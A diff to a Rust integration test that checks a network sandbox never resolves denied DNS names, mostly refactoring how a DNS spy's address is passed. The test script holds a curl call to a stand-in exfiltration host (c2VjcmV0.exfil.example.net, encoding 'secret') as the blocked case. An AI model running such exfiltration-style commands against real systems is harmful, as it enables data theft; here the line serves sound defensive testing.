@@ -8,9 +8,7 @@ mod common;
 use std::path::Path;
 use std::process::{Command, Stdio};
 
-use common::net::{
-    can_run, git_server, make_bare_repo, spy_addr, Cert, DnsSpy, Names, Upstream, DNS_LOCK,
-};
+use common::net::{can_run, git_server, make_bare_repo, Cert, DnsSpy, Names, Upstream, DNS_LOCK};
 use common::{install_executable, Sandbox, TempDir};
 use serde_json::Value;
 
@@ -328,7 +326,7 @@ fn denied_names_are_never_resolved() {
     let _one_at_a_time = DNS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
     let spy = DnsSpy::start();
     let sb = Sandbox::new();
-    let names = Names::new();
+    let names = Names::with_nameserver(&spy.addr.ip().to_string());
     let script = "curl -sS --max-time 20 -D - http://c2VjcmV0.exfil.example.net/; \
                   curl -sS --max-time 20 -D - http://unlisted.example.org/";
     let out = sb.net_sh(&names, &["--allow", "*.example.org"], script);
@@ -342,7 +340,7 @@ fn denied_names_are_never_resolved() {
     assert!(
         asked.iter().any(|n| n == "unlisted.example.org"),
         "the spy at {} should have seen the allowed name: {asked:?}",
-        spy_addr()
+        spy.addr
     );
     assert!(
         !asked.iter().any(|n| n.contains("exfil")),
